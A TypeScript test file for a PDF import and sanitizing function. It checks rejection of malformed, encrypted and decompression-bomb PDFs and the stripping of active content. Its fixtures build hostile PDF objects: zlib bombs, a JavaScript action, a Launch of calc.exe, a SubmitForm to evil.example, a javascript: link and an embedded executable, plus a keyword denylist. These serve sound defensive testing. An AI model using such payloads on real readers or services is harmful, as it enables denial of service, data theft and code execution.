import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ApiError } from '#contracts/http/api-error.ts';
import { buildPdf, onePage, type PdfObjectSource } from '../testing/build-pdf.ts';
import { importPdf, type ImportedPdf } from './import-pdf.ts';

type Objects = Readonly<Record<number, PdfObjectSource>>;
const withObjects = (objects: Objects, trailer = ''): Uint8Array => buildPdf({ ...onePage, ...objects }, trailer);
const imported = (pdf: Uint8Array, maxPages: number | null = null): Promise<ImportedPdf> =>
  importPdf(pdf, { maxPages });
const text = ({ pdf }: ImportedPdf): string => Buffer.from(pdf).toString('latin1');

const reasonOf = async (pdf: Uint8Array, maxPages: number | null = null): Promise<unknown> => {
  try {
    await imported(pdf, maxPages);
    return 'imported';
  } catch (error) {
    if (!(error instanceof ApiError)) throw error;
    expect(error.fields.name).toBe('invalid_pdf');
    return (error.fields.extra['details'] as { reason: string }).reason;
  }
};

const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const bomb = (mebibytes: number): Uint8Array => deflateSync(Buffer.alloc(mebibytes * 2 ** 20, ' '));
const flate = '/Filter /FlateDecode';

describe('A PDF that cannot be a part', () => {
  it.each<[string, Uint8Array, string]>([
    ['no PDF', Buffer.from('PK\u0003\u0004'), 'not_a_pdf'],
    ['nothing but a header', Buffer.from('%PDF-1.7\n'), 'damaged'],
    ['encrypted', withObjects({ 9: '<< /Filter /Standard /V 5 >>' }, '/Encrypt 9 0 R'), 'encrypted'],
    ['without pages', withObjects({ 2: '<< /Type /Pages /Kids [] /Count 0 >>' }), 'damaged'],
    ['a page tree with a loop', withObjects({ 2: '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>' }), 'damaged'],
    ['a page tree without objects', withObjects({ 2: '<< /Type /Pages /Kids [70 0 R] >>' }), 'damaged'],
    ['a page of no size', withObjects({ 3: '<< /Type /Page /MediaBox [0 0 1e9 1] >>' }), 'damaged'],
    ['nested too deeply', withObjects({ 9: nested(5000) }), 'nested_too_deeply'],
    ['a compressed bomb as content', withObjects({ 4: { dictionary: flate, stream: bomb(129) } }), 'too_large'],
    [
      'a bomb in a bomb',
      withObjects({ 4: { dictionary: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(bomb(129)) } }),
      'too_large',
    ],
    [
      'a compressed bomb as objects',
      withObjects({ 9: { dictionary: `/Type /ObjStm /N 1 /First 4 ${flate}`, stream: bomb(129) } }),
      'too_large',
    ],
    [
      'a stream of objects with a huge count',
      withObjects({ 9: { dictionary: '/Type /ObjStm /N 999999999 /First 4', stream: '9 0 <<>>' } }),
      'damaged',
    ],
    ['content that is not compressed', withObjects({ 4: { dictionary: flate, stream: 'BT ET' } }), 'damaged'],
    ['an image in the content that has no end', withObjects({ 4: { dictionary: '', stream: 'BI ID abc' } }), 'damaged'],
    [
      'a dynamic form',
      withObjects({ 1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 9 0 R /Fields [] >> >>', 9: '(x)' }),
      'dynamic_form',
    ],
    [
      'a field whose value is not drawn',
      withObjects({
        3: '<< /Type /Page /Contents 4 0 R /Annots [<< /Subtype /Widget /T (name) /V (Ann) /Rect [0 0 9 9] >>] >>',
      }),
      'field_without_appearance',
    ],
  ])('is rejected if it is %s', async (_, pdf, reason) => {
    expect(await reasonOf(pdf)).toBe(reason);
  });

  it('is rejected if it has more pages than the plan allows, whatever it says', async () => {
    const pages = '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 1 /MediaBox [0 0 9 9] >>';
    const pdf = withObjects({ 2: pages, 6: '<< /Type /Page >>' });
    expect(await reasonOf(pdf, 1)).toBe('too_many_pages');
    expect(await imported(pdf, 2)).toMatchObject({ pages: 2 });
  });
});

describe('An annotation without an appearance', () => {
  const annotated = (entries: string, more: Objects = {}): Uint8Array =>
    withObjects({
      3: `<< /Type /Page /Contents 4 0 R /Annots [<< ${entries.includes('/Rect') ? '' : '/Rect [0 0 9 9]'} ${entries} >>] >>`,
      9: { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', stream: '' },
      ...more,
    });
  /** A field of which another button is on in the state B. */
  const radio = (value: string): string => `<< /V ${value} /Kids [<< /AP << /N << /B 9 0 R >> >> >>] >>`;
  const field = 'field_without_appearance';
  const annotation = 'annotation_without_appearance';

  it.each([
    ['a text in a stream', '/Subtype /Widget /FT /Tx /V 10 0 R', field],
    ['a value of the field that has it', '/Subtype /Widget /Parent << /V (Ann) >>', field],
    ['the chosen items of a list', '/Subtype /Widget /FT /Ch /V [(one)(two)]', field],
    ['the items of a list', '/Subtype /Widget /FT /Ch /Opt [(one)(two)]', field],
    ['a box that is checked', '/Subtype /Widget /FT /Btn /V /Yes', field],
    ['a button that is on', '/Subtype /Widget /FT /Btn /AS /Yes /Parent << /V /Yes >>', field],
    ['a button that may be on', `/Subtype /Widget /FT /Btn /Parent ${radio('/A')}`, field],
    ['a text', '/Subtype /FreeText /Contents (Approved)', annotation],
    ['a shape', '/Subtype /Square /C [1 0 0]', annotation],
    ['a mark', '/Subtype /Highlight /AP << /N 99 0 R >>', annotation],
  ])('is an error if viewers draw it all the same: %s', async (_, entries, reason) => {
    expect(await reasonOf(annotated(entries, { 10: { dictionary: '', stream: 'Ann' } }))).toBe(reason);
  });

  it.each([
    ['a field without a value', '/Subtype /Widget /FT /Tx /V ( )'],
    ['a list without items', '/Subtype /Widget /FT /Ch /V [] /Opt []'],
    ['the items of a list that is closed', '/Subtype /Widget /FT /Ch /Ff 131072 /Opt [(one)(two)]'],
    ['a box that is not checked', '/Subtype /Widget /FT /Btn /V /Off'],
    ['a button of which another one is on', '/Subtype /Widget /FT /Btn /AS /Off /Parent << /V /Yes >>'],
    ['a button of which another one is on, without a state', `/Subtype /Widget /FT /Btn /Parent ${radio('/B')}`],
    ['a field without an area', '/Subtype /Widget /FT /Tx /V (Ann) /Rect [0 0 0 0]'],
    ['a field without a height', '/Subtype /Widget /FT /Tx /V (Ann) /Rect [5 5 90 5]'],
    ['a state that draws nothing', '/Subtype /Widget /FT /Btn /V /Yes /AS /Yes /AP << /N << /No 9 0 R >> >>'],
    ['a shape that is hidden', '/Subtype /Square /F 2'],
    ['the window of a note', '/Subtype /Popup'],
    ['the icon of a note', '/Subtype /Text /Contents (note)'],
    ['a link', '/Subtype /Link'],
  ])('is left out if it shows nothing: %s', async (_, entries) => {
    expect(await reasonOf(annotated(entries))).toBe('imported');
  });
});

describe('An imported PDF', () => {
  it('has no scripts, actions, files or forms', async () => {
    const result = await imported(
      withObjects({
        1:
          '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /AA << /WC 9 0 R >> /AcroForm << /Fields [10 0 R] /XFA 9 0 R >>' +
          ' /Names << /JavaScript << /Names [(a) 9 0 R] >> /EmbeddedFiles << /Names [(a) 11 0 R] >> >> /AF [11 0 R] >>',
        3:
          '<< /Type /Page /Contents 4 0 R /AA << /O 9 0 R >> /Annots [10 0 R 12 0 R 13 0 R 14 0 R 15 0 R] ' +
          '/PieceInfo << /X 9 0 R >> /Metadata 4 0 R >>',
        9: '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (calc.exe) >> >>',
        10: '<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> /AA << /D 9 0 R >> >>',
        11: '<< /Type /Filespec /F (virus.exe) /EF << /F 4 0 R >> >>',
        12: '<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets 9 0 R >> >>',
        13: '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
        14: '<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 11 0 R >>',
        15: '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>',
      }),
    );
    expect(text(result)).not.toMatch(/JavaScript|\/JS|Launch|SubmitForm|evil|EmbeddedFiles|Filespec|RichMedia|GoToR/);
    expect(text(result)).not.toMatch(/OpenAction|\/AA|AcroForm|XFA|\/AF|Metadata|PieceInfo|Widget|FileAttachment/);
  });

  it('is the same for the same bytes', async () => {
    expect(text(await imported(withObjects({})))).toBe(text(await imported(withObjects({}))));
  });
});
